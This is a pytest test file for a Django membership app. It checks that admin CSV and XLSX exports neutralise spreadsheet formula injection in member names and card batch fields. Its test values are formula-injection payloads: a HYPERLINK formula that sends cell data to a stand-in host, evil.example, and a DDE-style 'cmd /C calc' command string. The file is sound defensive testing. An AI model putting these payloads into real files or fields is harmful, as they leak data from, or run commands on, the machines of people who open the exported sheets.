"""Formula cells in the admin exports (issue 12): a member's name or a card batch that a spreadsheet
would run (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`) is exported as text, in CSV and in XLSX."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.hashers import make_password
from django.test import Client

from core.spreadsheets import escape_formula
from membership.models import Member
from membership.services import cards

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EXPORT_FORMATS = {"csv": "0", "xlsx": "1"}


def export(client, model: str, fmt: str) -> list[list]:
    url = f"/admin/membership/{model}/export/"
    form = client.get(url).context["form"]
    data = {"format": EXPORT_FORMATS[fmt], "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    response = client.post(url, data)
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)  # no formula cell anywhere
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    "value,expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("张三", "张三"),
        ("-50", "-50"),
        ("-12.30", "-12.30"),
        (-5, -5),
        (None, None),
        ("", ""),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_the_member_set_on_m_is_exported_as_text(signed_in, enrol, fmt):
    member = enrol(phone="13811110009", name="甲")
    Member.objects.filter(pk=member.pk).update(password=make_password("a-long-Passw0rd!"))
    client = Client()
    assert client.post("/m/login/", {"phone": member.phone, "password": "a-long-Passw0rd!"}).status_code == 302
    assert client.post("/m/profile/", {"name": FORMULA}).status_code == 302
    member.refresh_from_db()
    assert member.name == FORMULA  # stored as typed; only the export escapes it
    other = enrol(phone="13811110010", name="+cmd|' /C calc'!A0")
    rows = export(signed_in("admin"), "member", fmt)
    names = {row[0]: row[2] for row in rows[1:]}
    assert names[member.member_no] == "'" + FORMULA
    assert names[other.member_no] == "'+cmd|' /C calc'!A0"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_card_export_escapes_a_formula_batch(signed_in, program, fmt):
    cards.add_stock(["6200000000000005"], batch="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = export(signed_in("admin"), "card", fmt)
    header = rows[0]
    batch = {row[0]: row[header.index("batch")] for row in rows[1:]}
    assert batch["6200000000000005"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
